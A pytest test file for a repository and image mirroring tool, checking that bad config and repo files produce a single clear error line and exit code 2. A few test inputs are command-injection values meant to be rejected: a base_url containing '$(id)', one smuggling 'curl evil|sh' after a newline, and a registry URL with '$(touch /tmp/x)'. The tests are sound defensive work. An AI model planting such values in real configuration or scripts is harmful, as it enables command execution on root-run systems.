"""Bad input gets one clear line naming file and key (or line), exit code 2, and nothing done."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from pydantic import ValidationError

from mirror.config import Config, load_config
from mirror.errors import ConfigError
from mirror.repofile import expand_targets, parse_repo_file

GOOD_REPO = "[base]\nname=Base\nbaseurl=http://127.0.0.1:9/base/$releasever/$basearch/\n"


def run_mirror(cwd: Path, *args: str, env: dict[str, str] | None = None):
    return subprocess.run(
        [sys.executable, "-m", "mirror", *args],
        capture_output=True,
        text=True,
        cwd=cwd,
        timeout=60,
        env=env,
    )


def write(tmp_path: Path, config: str, repo: str | None = GOOD_REPO) -> Path:
    (tmp_path / "repos").mkdir(exist_ok=True)
    if repo is not None:
        (tmp_path / "repos" / "base.repo").write_text(repo)
    path = tmp_path / "mirror.yaml"
    path.write_text(config)
    return path


def assert_one_line_error(proc, *needles: str) -> None:
    assert proc.returncode == 2, proc.stderr
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1, proc.stderr
    for needle in needles:
        assert needle in lines[0], lines[0]


@pytest.mark.parametrize(
    ("config", "needles"),
    [
        ("data_dri: ./data\n", ["mirror.yaml", "key 'data_dri'", "unknown key"]),
        ("download_workers: many\n", ["key 'download_workers'", "integer"]),
        ("base_url: utility:8080\n", ["key 'base_url'", "http://"]),
        ("repo_filters:\n  base: {newest: 0}\n", ["key 'repo_filters.base.newest'"]),
        (
            "repo_filters:\n  nosuch: {newest: 1}\n",
            ["key 'repo_filters.nosuch'", "no enabled repo"],
        ),
        # Issue 10: any vX.Y.Z is accepted (its images may come from its mirrored kubeadm);
        # only malformed versions and ranges are config errors.
        ("kubernetes_versions: [v1.99]\n", ["key 'kubernetes_versions'", "malformed"]),
        (
            "kubernetes_versions: [v1.36.5..v1.34.3]\n",
            ["key 'kubernetes_versions'", "reverse order"],
        ),
        ("releasever: []\n", ["key 'releasever'"]),
        ("data_dir: [unclosed\n", ["mirror.yaml", "line 2"]),
        ("- just\n- a list\n", ["top level must be a mapping"]),
        # Values that end up in root-run shell scripts and in directory names.
        ('base_url: "http://u:8080/$(id)"\n', ["key 'base_url'", "path may only contain"]),
        ('base_url: "http://u:8080\\ncurl evil|sh"\n', ["key 'base_url'"]),
        ("registry: {url: 'u:5000$(touch /tmp/x)'}\n", ["key 'registry.url'", "HOST[:PORT]"]),
        ('releasever: [".."]\n', ["key 'releasever'", "plain names"]),
        # Validated by the config object once, not when the image sync first needs them.
        ("platforms: [linux]\n", ["key 'platforms'", "os/arch"]),
        ("platforms: []\n", ["key 'platforms'"]),
        ("images_file: ./no-such-images.txt\n", ["key 'images_file'", "no such file"]),
    ],
)
def test_invalid_config_is_one_clear_line(tmp_path: Path, config: str, needles: list[str]) -> None:
    cfg = write(tmp_path, config)
    proc = run_mirror(tmp_path, "-c", str(cfg), "sync")
    assert_one_line_error(proc, *needles)
    assert not (tmp_path / "data").exists()  # nothing done


def test_missing_config_names_the_path_and_the_env_var(tmp_path: Path) -> None:
    proc = run_mirror(tmp_path, "sync")
    assert_one_line_error(proc, "mirror.yaml", "not found", "MIRROR_CONFIG")


def test_mirror_config_env_var_is_used(tmp_path: Path) -> None:
    cfg = write(tmp_path, "releasever: [x/y]\n")
    env = {"MIRROR_CONFIG": str(cfg), "PATH": "/usr/bin:/bin"}
    proc = run_mirror(tmp_path / "repos", "sync", env=env)
    assert_one_line_error(proc, str(cfg), "key 'releasever'")


def test_missing_repos_dir(tmp_path: Path) -> None:
    cfg = tmp_path / "mirror.yaml"
    cfg.write_text("repos_dir: ./nowhere\n")
    proc = run_mirror(tmp_path, "-c", str(cfg), "sync")
    assert_one_line_error(proc, "key 'repos_dir'", "nowhere", "not a directory")


@pytest.mark.parametrize(
    ("repo", "needles"),
    [
        ("baseurl=http://x/\n", ["base.repo", "line 1", "[repo-id] section header"]),
        ("[base]\nbaseurl=http://x/\n  [oops\nthis is not a key\n", ["base.repo", "line 4"]),
        ("[base]\nbaseurl=http://x/\nbaseurl=http://y/\n", ["line 3", "duplicate key 'baseurl'"]),
        ("[base]\nname=B\n", ["[base]", "key 'baseurl' is missing"]),
        ("[base]\nmirrorlist=http://x/list\n", ["[base]", "mirrorlist/metalink"]),
        ("[base]\nbaseurl=ftp://x/\n", ["[base]", "unsupported URL"]),
        ("[base]\nbaseurl=file:///srv/repo/\n", ["[base]", "unsupported URL"]),
        ("[..]\nbaseurl=http://x/\n", ["[..]", "must start with a letter or digit"]),
        ("[base]\nbaseurl=http://x/$arch/\n", ["[base]", "$arch is not supported"]),
        ("[base]\nbaseurl=http://x/\ngpgcheck=1\n", ["[base]", "'gpgkey' is missing"]),
        ("[base]\nbaseurl=http://x/\ngpgcheck=maybe\n", ["[base]", "key 'gpgcheck'"]),
    ],
)
def test_malformed_repo_file_is_one_clear_line(
    tmp_path: Path, repo: str, needles: list[str]
) -> None:
    cfg = write(tmp_path, "", repo=repo)
    proc = run_mirror(tmp_path, "-c", str(cfg), "sync")
    assert_one_line_error(proc, *needles)


def test_unknown_repo_on_command_line(tmp_path: Path) -> None:
    cfg = write(tmp_path, "")
    proc = run_mirror(tmp_path, "-c", str(cfg), "sync", "--repo", "nope")
    assert_one_line_error(proc, "--repo nope", "known: base")


def test_relative_paths_resolve_against_the_config_file(tmp_path: Path) -> None:
    cfg = load_config(write(tmp_path, "data_dir: ./d\n"))
    assert cfg.data_dir == tmp_path / "d"
    assert cfg.repos_dir == tmp_path / "repos"
    with pytest.raises(ValidationError):  # frozen: passed around, never mutated
        cfg.data_dir = Path("/")  # type: ignore[misc]


def test_variables_expand_per_value_and_disabled_sections_are_skipped(tmp_path: Path) -> None:
    path = tmp_path / "x.repo"
    path.write_text(
        GOOD_REPO + "gpgkey=http://k/$releasever.gpg\nexclude=a b,c\n"
        "\n[off]\nbaseurl=http://x/\nenabled=0\n"
    )
    (definition,) = parse_repo_file(path)
    assert definition.exclude == ("a", "b", "c")
    cfg = Config(releasever=("8", "9"), basearch=("x86_64", "aarch64"))
    targets = expand_targets([definition], cfg)
    assert [t.key for t in targets] == [
        "base/8/x86_64",
        "base/8/aarch64",
        "base/9/x86_64",
        "base/9/aarch64",
    ]
    assert targets[3].baseurls == ("http://127.0.0.1:9/base/9/aarch64/",)
    assert targets[3].gpgkeys == ("http://k/9.gpg",)


def test_shipped_repo_definitions_parse(tmp_path: Path) -> None:
    repos = Path(__file__).resolve().parent.parent / "repos"
    ids = {d.id: d for p in sorted(repos.glob("*.repo")) for d in parse_repo_file(p)}
    assert set(ids) == {"kubernetes", "docker-ce-stable", "cri-o"}
    # Issue 10: one variable for the minor, expanded from kubernetes_versions.
    assert ids["kubernetes"].baseurls == (
        "https://pkgs.k8s.io/core:/stable:/$kubernetes_minor/rpm/",
    )
    assert ids["kubernetes"].variables == ("kubernetes_minor",)
    assert ids["kubernetes"].exclude == (
        "kubelet",
        "kubeadm",
        "kubectl",
        "cri-tools",
        "kubernetes-cni",
    )
    assert ids["docker-ce-stable"].variables == ("releasever", "basearch")
    assert "isv:/cri-o:/stable:/$kubernetes_minor/rpm/" in ids["cri-o"].baseurls[0]
    assert ids["cri-o"].variables == ("kubernetes_minor",)
    assert all(d.gpgcheck for d in ids.values())


def test_shipped_default_config_is_valid() -> None:
    cfg = load_config(Path(__file__).resolve().parent.parent / "mirror.yaml")
    assert cfg.repo_filters["docker-ce-stable"].include == ("containerd.io",)


def test_config_error_carries_source() -> None:
    err = ConfigError("f.yaml", "key 'x': bad")
    assert str(err) == "f.yaml: key 'x': bad" and err.exit_code == 2


def test_directory_named_like_a_repo_file_is_one_line(tmp_path: Path) -> None:
    cfg = write(tmp_path, "")
    (tmp_path / "repos" / "odd.repo").mkdir()
    proc = run_mirror(tmp_path, "-c", str(cfg), "sync")
    assert_one_line_error(proc, "odd.repo", "cannot read")


def test_unusable_data_dir_is_one_line_exit_3(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    cfg = write(tmp_path, "data_dir: ./file/data\n")
    proc = run_mirror(tmp_path, "-c", str(cfg), "sync")
    assert proc.returncode == 3, proc.stderr
    assert proc.stderr.strip().splitlines() == [
        f"mirror: error: {tmp_path}/file/data: Not a directory"
    ]


def test_unreachable_external_registry_exits_3_naming_it(tmp_path: Path) -> None:
    import socket

    with socket.socket() as s:  # a port nothing listens on
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    (tmp_path / "images.txt").write_text("nginx:1.25\n")
    cfg = write(tmp_path, f"registry: {{url: '127.0.0.1:{port}', embedded: false}}\n")
    proc = run_mirror(tmp_path, "-c", str(cfg), "sync", "--only", "images")
    assert proc.returncode == 3, proc.stderr
    assert f"127.0.0.1:{port}" in proc.stderr


def test_bad_images_txt_line_names_file_and_line(tmp_path: Path) -> None:
    (tmp_path / "images.txt").write_text("# ok\nnginx:1.25\n\nNot A Valid/Ref:x\n")
    cfg = write(tmp_path, "")
    proc = run_mirror(tmp_path, "-c", str(cfg), "sync", "--only", "images")
    assert_one_line_error(proc, "images.txt: line 4")
    assert not (tmp_path / "data" / "state").exists()


def test_images_list_for_unknown_version_lists_the_known_range(tmp_path: Path) -> None:
    proc = run_mirror(tmp_path, "images", "list", "--kubernetes-version", "1.23.0")
    assert_one_line_error(proc, "kubernetes version '1.23.0'", "known: v1.24.0 ..")
    ok = run_mirror(tmp_path, "images", "list", "--kubernetes-version", "v1.31.0")
    assert ok.returncode == 0
    assert ok.stdout.splitlines()[0] == "registry.k8s.io/kube-apiserver:v1.31.0"
